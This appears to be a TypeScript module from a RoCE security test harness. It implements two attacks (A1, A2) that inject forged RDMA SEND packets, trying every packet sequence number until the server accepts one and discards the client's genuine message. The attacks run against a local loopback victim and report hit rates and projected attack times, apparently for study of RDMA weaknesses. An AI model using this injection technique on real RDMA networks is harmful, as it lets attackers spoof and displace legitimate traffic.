/**
 * An attacker who knows a queue pair's number and its peer's address, but not the PSN, sends a SEND with every PSN in
 * turn. One of them is right: the server takes it for the client's, and the client's own next message for a repetition.
 */
import { Opcode } from '../../../src/roce/wire/opcodes.js';
import type { Attack, AttackContext, Outcome } from '../attack.js';
import { type Barrage, fire } from '../barrage.js';
import { Injector } from '../injector.js';
import { HOSTS } from '../loopback.js';
import { PacketTemplate } from '../packet-template.js';
import { duration, fitsUniformMean, rounded } from '../statistics.js';
import { startVerbsVictim } from '../victims/start.js';
import type { Target } from '../victims/verbs-victim.js';

const BITS = 16;
const RUNS = 24;
const FULL_BITS = 24;
/** What RNICs inject, packets a second, as published measurements have it (ReDMArk, USENIX Security 2021). */
const RNIC_RATE = 1e6;

interface Sweep {
  readonly packets: number;
  readonly hit: boolean;
  /** The client's own message was taken for a repetition of the forged one. */
  readonly replaced: boolean;
}

async function sweepAll(context: AttackContext, isOdd: boolean, bits: number, runs: number) {
  await using victim = await startVerbsVictim(context, { psnBits: bits, psnIsOdd: isOdd });
  await victim.call('connect');
  await using injector = await Injector.open(HOSTS.client, HOSTS.server);
  const sweeps: Sweep[] = [];
  const startedAt = performance.now();
  for (let run = 0; run < runs; run++) {
    await victim.call('disconnect');
    const target = await victim.call('connect');
    sweeps.push(await sweep({ victim, which: 'server', injector }, target, bits, isOdd, context));
    context.progress(`sweep ${run + 1} of ${runs}`);
  }
  const packets = sweeps.reduce((sum, each) => sum + each.packets, 0);
  return { sweeps, packets, rate: packets / ((performance.now() - startedAt) / 1000) };
}

/** Downwards: the place after a hit has been tried already, so that one sweep is one hit. */
async function sweep(
  barrage: Barrage,
  { serverQpn }: Target,
  bits: number,
  isOdd: boolean,
  context: AttackContext,
): Promise<Sweep> {
  const { injector, victim } = barrage;
  const spec = { opcode: Opcode.RC_SEND_ONLY, psn: 0, destQpn: serverQpn, payload: new Uint8Array(8) };
  const template = new PacketTemplate(spec, injector.source, injector.destination);
  const step = isOdd ? 2 : 1;
  const places = 2 ** bits / step;
  const start = context.random.below(places);
  const received: Uint8Array[] = [];
  const psnOf = (index: number): number => ((start - index + places) % places) * step + (isOdd ? 1 : 0);
  await fire(
    barrage,
    places,
    (index) => template.psn(psnOf(index)).mark(index).packet(),
    async () => {
      received.push(...(await victim.call('takeReceived', 'server')));
      return received.length > 0;
    },
  );
  const forged = received[0];
  if (forged === undefined) return { packets: places, hit: false, replaced: false };
  await victim.call('send', 'client', Buffer.from('the true one'));
  const honest = await victim.call('takeReceived', 'server');
  const packets = new DataView(forged.buffer, forged.byteOffset).getUint32(forged.length - 4) + 1;
  return { packets, hit: received.length === 1, replaced: honest.length === 0 };
}

async function run(context: AttackContext, isOdd: boolean): Promise<Outcome> {
  const { sweeps, packets, rate } = await sweepAll(context, isOdd, BITS, RUNS);
  const places = 2 ** BITS / (isOdd ? 2 : 1);
  const hits = sweeps.filter(({ hit }) => hit).length;
  const replaced = sweeps.filter(({ replaced }) => replaced).length;
  const mean = packets / RUNS;
  const full = 2 ** FULL_BITS / (isOdd ? 2 : 1);
  const notes = [
    `${rounded(mean)} packets a hit on ${BITS} bits (theory ${(places + 1) / 2})`,
    `the client's own message was replaced ${replaced} times`,
    `2^24 takes ${duration(full / 2 / rate)} on average at the ${rounded(rate)} packets/s of this sender, ` +
      `${duration(full / 2 / RNIC_RATE)} at the 10^6 of an RNIC`,
  ];
  if (context.full) notes.push(await fullSize(context, isOdd));
  return {
    tries: packets,
    hits,
    expected: RUNS,
    pass: hits === RUNS && replaced === RUNS && fitsUniformMean(mean, RUNS, places),
    note: notes.join('; '),
  };
}

async function fullSize(context: AttackContext, isOdd: boolean): Promise<string> {
  const { sweeps, rate } = await sweepAll(context, isOdd, FULL_BITS, 1);
  const { packets = 0, hit = false } = sweeps[0] ?? {};
  return `full size: ${hit ? 'hit' : 'no hit'} after ${packets} packets, ${duration(packets / rate)}`;
}

export const BLIND_SWEEP: Attack = {
  name: 'A1',
  title: 'blind SENDs with every PSN, queue pair number and address known',
  run: (context) => run(context, false),
};

export const ODD_PSN_SWEEP: Attack = {
  name: 'A2',
  title: 'the same against a victim whose PSNs were made with "| 1"',
  run: (context) => run(context, true),
};
